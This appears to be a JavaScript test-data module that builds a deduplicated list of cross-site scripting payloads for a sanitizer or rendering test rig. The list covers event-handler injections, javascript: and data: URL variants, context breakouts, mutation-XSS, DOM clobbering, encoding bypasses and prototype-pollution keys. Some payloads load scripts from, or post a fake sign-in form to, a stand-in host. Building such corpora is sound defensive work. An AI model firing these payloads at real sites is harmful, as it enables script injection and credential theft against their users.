// Texts that a visitor may send to make a page do something. Each has `alert(`, which the rigs hook, or an element that they
// would see, and all of them are plain text to us.

const RUN = "alert(document.domain)";
/** Elements that run something by themselves, or with a person's help, and the attribute that says what. */
const BY_EVENT = [
  ["img src=x", ["onerror"]],
  ["svg", ["onload"]],
  ["svg><animate attributeName=x dur=1s", ["onbegin", "onend", "onrepeat"]],
  ["body", ["onload", "onpageshow", "onfocus", "onhashchange"]],
  ["input autofocus", ["onfocus", "onblur"]],
  ["select autofocus", ["onfocus"]],
  ["textarea autofocus", ["onfocus"]],
  ["video><source src=x", ["onerror"]],
  ["video autoplay src=x", ["onerror", "onloadstart", "oncanplay"]],
  ["audio src=x", ["onerror"]],
  ["details open", ["ontoggle"]],
  ["marquee", ["onstart", "onfinish", "onbounce"]],
  ["iframe src=about:blank", ["onload"]],
  ["object data=x", ["onerror"]],
  ["embed src=x", ["onerror", "onload"]],
  ["link rel=stylesheet href=x", ["onerror"]],
  ["style", ["onload"]],
  ["div style=animation-name:x", ["onanimationstart", "onanimationend"]],
  ["div popover id=p", ["onbeforetoggle", "ontoggle"]],
  ["p contenteditable tabindex=0 autofocus", ["onfocus", "oninput", "onpointerenter"]],
  ["a href=# tabindex=0", ["onclick", "onmouseover", "onpointerdown"]],
  ["usher-widget tabindex=0", ["onfocus", "onmouseenter"]],
  ["math", ["onclick"]],
];
const HOLDERS = ["a href", "iframe src", "form action", "object data", "embed src", "base href", "area href", "button formaction"];
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` javascript:${RUN}`, `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`, `javascript://%0a${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `\u0001javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `blob:https://x.example/1`, `https://x.example/"onmouseover="${RUN}`,
  `https://x.example/'onmouseover='${RUN}`, `https://x.example/><script>${RUN}</script>`, `javascript:https://x.example/;${RUN}`,
];
/** Ways out of where a text stands. */
const OUT_OF = [
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`, `</template><img src=x onerror=${RUN}>`, `" autofocus onfocus=${RUN} x="`, `' autofocus onfocus=${RUN} x='`,
  `\`-${RUN}-\``, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `';${RUN};//`, `";${RUN};//`, `\\";${RUN};//`,
  `\u2028${RUN}//`, `</option></select><img src=x onerror=${RUN}>`, `"/><svg/onload=${RUN}>`, `"onmouseover=${RUN} "`,
];
const OTHERS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</script>`, `<script src=//x.example/a.js></script>`,
  `<script type=module>import "//x.example/a.js"</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=https://x.example/">`,
  `<base href=https://x.example/>`, `<link rel=stylesheet href=https://x.example/a.css>`, `<link rel=import href=data:text/html,${RUN}>`,
  `<style>@import "https://x.example/a.css";</style>`, `<style>*{background:url(https://x.example/a)}</style>`,
  `<img src=https://x.example/a.png>`, `<img srcset="https://x.example/a.png 1x">`, `<video poster=https://x.example/a.png>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`, `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<a href="https://x.example/" ping="https://x.example/p">a</a>`, `<form action=https://x.example/><button>Sign in again</button></form>`,
  `<input type=hidden name=csrf value=x>`, `<button popovertarget=p>x</button>`, `<dialog open>Sign in again</dialog>`, `<h1>Signed out</h1>`,
  `<div id=main></div><div id=usher></div>`, `<img name=getElementById><form name=cookie>`, `<a id=config><a id=config name=url href=https://x.example/>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<ſcript>${RUN}</ſcript>`, `<script\u00a0>${RUN}</script>`, `<img\u000csrc=x\u000conerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x onerror="&#97;lert(1)">`, `<img src=\`x\` onerror=\`${RUN}\`>`, `<<img src=x onerror=${RUN}//<`, `<x/onclick=${RUN}>x`, `<?xml version="1.0"?><x/>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<a href=x onclick=${RUN}>x</a>`, `<!DOCTYPE html><script>${RUN}</script>`,
  `[a](javascript:${RUN})`, `![a](https://x.example/"onerror="${RUN})`, `<https://x.example/|a>`, `=HYPERLINK("https://x.example/","a")`, `\u202e<script>${RUN}</script>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`, `__proto__`, `constructor`, `toString`, `<Show when=true><img src=x onerror=${RUN}></Show>`,
];

/** Every text, each once. */
export const SCRIPTS = [
  ...new Set([
    ...BY_EVENT.flatMap(([element, events]) => events.flatMap((event) => [`<${element} ${event}=${RUN}>`, `"><${element} ${event}="${RUN}">`])),
    ...HOLDERS.flatMap((holder, at) => [ADDRESSES[at], ADDRESSES[at + HOLDERS.length]].map((address) => `<${holder}="${address}">x`)),
    ...ADDRESSES,
    ...OUT_OF,
    ...OTHERS,
  ]),
];
